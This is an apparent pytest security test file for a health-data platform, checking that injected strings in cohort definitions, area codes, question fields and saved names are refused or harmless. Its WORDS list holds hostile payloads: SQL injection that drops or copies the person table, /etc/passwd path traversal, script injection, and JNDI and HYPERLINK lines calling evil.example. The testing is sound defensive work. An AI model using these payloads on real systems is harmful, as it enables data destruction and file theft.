"""Words that are code elsewhere are only words here, wherever they come in."""

import json
from pathlib import Path

import pytest

from phm_core.area import Area, Level
from phm_core.definitions import Definition
from phm_core.definitions.events import Activity, Procedure
from phm_core.definitions.nodes import LivesIn, RegisteredAt
from phm_core.definitions.parse import parse_definition
from phm_core.definitions.questions import (
    Crosstab,
    HowMany,
    Incidence,
    Journeys,
    RateBy,
    Series,
    Spread,
    Timeline,
)
from phm_core.definitions.rows_of_people import Features, People
from phm_core.errors import NotPermitted, PhmError, RefusedInput
from phm_core.settings import Settings
from phm_core.start import House, open_house
from phm_core.store.access import Grant
from phm_core.store.remarks import Note
from tests.attack.every_question import ADULTS

WORDS = (
    "'; DROP TABLE person; --",
    '" OR 1=1 --',
    "x') UNION SELECT pseudonym FROM person --",
    "read_csv('/etc/passwd')",
    "../../../etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "person_id) FROM person; COPY person TO '/tmp/out.csv'; --",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example")',
    "{{7*7}}",
    "%s%n%x",
    "\x00person",
    "person\nperson",
    "${jndi:ldap://evil.example}",
    "ＤＲＯＰ　ＴＡＢＬＥ",
)
each_word = pytest.mark.parametrize("word", WORDS)


@pytest.fixture(scope="module")
def house(demo_data: Path, tmp_path_factory: pytest.TempPathFactory) -> House:
    own = tmp_path_factory.mktemp("injected")
    return open_house(
        Settings(
            data_dir=demo_data,
            database_url=f"sqlite:///{own}/app.db",
            audit_anchor=own / "audit.anchor",
        )
    )


@pytest.fixture(autouse=True, scope="module")
def everybody_is_still_there(house: House):
    """After all attacks the count is what it was, and the audit whole."""
    before = house.gateway.ask(HowMany(ADULTS), house.scope()).figure("people")
    yield
    after = house.gateway.ask(HowMany(ADULTS), house.scope()).figure("people")
    assert after == before
    assert house.audit.verify().bad is None
    assert not Path("/tmp/out.csv").exists()  # noqa: S108  # what the attack would write


def nothing(house: House, question, role="analyst", purpose="planning") -> None:
    """The question is refused in a sentence, or finds nobody."""
    try:
        found = house.gateway.ask(question, house.scope(role, purpose), reason="Attack")
    except PhmError:
        return
    assert not any(
        value for name, value in found.facts.items() if name not in ("population",)
    )


@each_word
@pytest.mark.parametrize(
    "wire",
    [
        "condition: {is: WORD}",
        "register: {is: WORD}",
        "measurement: {of: WORD, at_least: 1}",
        "medication: {of: WORD}",
        "process: {of: WORD}",
        "activity: {of: WORD}",
        "social: {is: WORD}",
        "score: {of: WORD, at_least: 1}",
        "in_cohort: {id: WORD}",
        "segment: {is: WORD}",
    ],
    ids=lambda wire: wire.split(":")[0],
)
def test_an_id_in_a_definition(house: House, wire: str, word: str):
    kind, _, body = wire.partition(": ")
    value = {
        key.strip(): (word if text.strip() == "WORD" else float(text))
        for key, text in (pair.split(":") for pair in body.strip("{}").split(","))
    }
    try:
        of = parse_definition(json.dumps({"name": "Attack", "criteria": {kind: value}}))
    except RefusedInput:
        return
    nothing(house, HowMany(of))


@each_word
def test_codes_of_areas_and_prefixes_of_codes(house: House, word: str):
    for make in (
        lambda: RegisteredAt(practice=(word,)),
        lambda: LivesIn(lsoa=(word,)),
        lambda: Procedure(opcs4=(word,)),
        lambda: Activity(of=("ae",), icd10=(word,)),
        lambda: Activity(of=("ae",), arrival=(word,)),
    ):
        try:
            rule = make()
        except ValueError:
            continue
        nothing(house, HowMany(Definition(name="Attack", criteria=rule)))


@each_word
def test_names_inside_questions(house: House, word: str):
    for question in (
        HowMany(ADULTS, area=Area(Level.PCN, word)),
        RateBy(ADULTS, (word,)),
        Crosstab(ADULTS, "sex", word),
        Timeline(ADULTS, word),
        Journeys(ADULTS, word),
        Series(word, Level.PCN),
        Incidence(word, Level.PCN),
        Spread(ADULTS, word),
    ):
        with pytest.raises(RefusedInput):
            house.gateway.ask(question, house.scope())


@each_word
def test_columns_of_a_list(house: House, word: str):
    for column in (word, f"measurement:{word}", f"condition:{word}"):
        for question, role, purpose in (
            (People(ADULTS, (column,)), "clinician", "direct_care"),
            (Features(ADULTS, (column,)), "analyst", "analysis"),
        ):
            with pytest.raises((RefusedInput, NotPermitted)):
                house.gateway.ask(question, house.scope(role, purpose), reason="Attack")


@each_word
def test_names_that_are_kept_are_given_back_as_they_were(house: House, word: str):
    saved = house.cohorts.save(
        ADULTS.model_copy(update={"name": f"Cohort {WORDS.index(word)} {word}"}),
        note=word,
    )
    assert house.cohorts.get(saved.id).name == f"Cohort {WORDS.index(word)} {word}"
    house.remarks.write(Note("commentary", word, f"Note {word}"), word)
    assert house.remarks.about(word)[-1].note.text == f"Note {word}".strip()
    house.access.give(Grant(f"{word}!", word, "analyst"), word)
    assert house.access.of(f"{word}!".strip())[-1].grant.name == word
